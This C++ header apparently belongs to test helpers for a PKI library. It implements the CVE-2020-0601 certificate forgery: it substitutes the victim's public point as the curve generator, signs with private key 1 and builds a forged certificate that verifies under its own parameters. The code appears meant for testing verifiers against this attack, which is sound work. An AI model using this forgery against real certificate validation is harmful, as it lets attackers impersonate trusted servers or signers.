// CVE-2020-0601: whoever may choose the generator has a private key to any public point.
#pragma once

#include "support/test_pki.hpp"

#include <algorithm>

namespace support::pki {

inline Octets point_of(const Key& key) {
    Octets point(65);
    std::size_t size = 0;
    EVP_PKEY_get_octet_string_param(key.handle.get(), OSSL_PKEY_PARAM_PUB_KEY, point.data(), point.size(), &size);
    return point;
}

/// P-256 in explicit parameters with the victim's public point as generator, and that point as key: the private key
/// is 1.
inline Octets info_with_generator_of(const Key& victim) {
    const Octets point = point_of(victim), generator{0x04, 0x6B, 0x17, 0xD1, 0xF2, 0xE1, 0x2C, 0x42, 0x47};
    Octets info = Key::ec("P-256", true).info;
    const auto at = std::search(info.begin(), info.end(), generator.begin(), generator.end());
    if (at == info.end()) throw std::runtime_error("no generator in the explicit parameters");
    std::copy(point.begin(), point.end(), at);
    std::copy(point.begin(), point.end(), info.end() - 65);
    return info;
}

/// An ECDSA signature by the private key 1 to the generator that is the victim's point: s = (h + r) / k.
inline Octets sign_with_generator_of(const Key& victim, const Octets& message) {
    BN_CTX* context = BN_CTX_new();
    EC_GROUP* group = EC_GROUP_new_by_curve_name(NID_X9_62_prime256v1);
    EC_POINT *base = EC_POINT_new(group), *at = EC_POINT_new(group);
    const Octets octets = point_of(victim), hashed = digest("SHA256", message);
    EC_POINT_oct2point(group, base, octets.data(), octets.size(), context);
    const BIGNUM* order = EC_GROUP_get0_order(group);
    BIGNUM *k = BN_new(), *r = BN_new(), *s = BN_bin2bn(hashed.data(), static_cast<int>(hashed.size()), nullptr);
    BN_set_word(k, 0x7E57C0DE);
    EC_POINT_mul(group, at, nullptr, base, k, context);
    EC_POINT_get_affine_coordinates(group, at, r, nullptr, context);
    BN_nnmod(r, r, order, context);
    BN_mod_add(s, s, r, order, context);
    BN_mod_inverse(k, k, order, context);
    BN_mod_mul(s, s, k, order, context);
    ECDSA_SIG* pair = ECDSA_SIG_new();
    ECDSA_SIG_set0(pair, r, s);
    unsigned char* encoded = nullptr;
    const int size = i2d_ECDSA_SIG(pair, &encoded);
    const Octets out(encoded, encoded + size);
    OPENSSL_free(encoded);
    ECDSA_SIG_free(pair);
    BN_free(k);
    EC_POINT_free(base);
    EC_POINT_free(at);
    EC_GROUP_free(group);
    BN_CTX_free(context);
    return out;
}

/// The certificate of this specification with the victim's point as key, signed so that it holds under its own curve.
inline Octets forged_certificate(CertificateSpec spec, const Key& victim) {
    spec.key_info = info_with_generator_of(victim);
    spec.signature = bit_string({0x00});
    const Octets unsigned_one = make_certificate(spec, ecdsa("SHA256"), victim);
    const std::size_t begin = 4, length = static_cast<std::size_t>(unsigned_one[6]) << 8 | unsigned_one[7];
    const auto from = unsigned_one.begin() + static_cast<std::ptrdiff_t>(begin);
    const Octets tbs(from, from + static_cast<std::ptrdiff_t>(4 + length));
    spec.signature = bit_string(sign_with_generator_of(victim, tbs));
    return make_certificate(spec, ecdsa("SHA256"), victim);
}

/// What a verifier that takes the parameters as they come would say.
inline bool holds_under_its_own_key(const Octets& certificate) {
    const unsigned char* at = certificate.data();
    X509* x509 = d2i_X509(nullptr, &at, static_cast<long>(certificate.size()));
    const bool holds = x509 != nullptr && X509_verify(x509, X509_get0_pubkey(x509)) == 1;
    X509_free(x509);
    return holds;
}

} // namespace support::pki
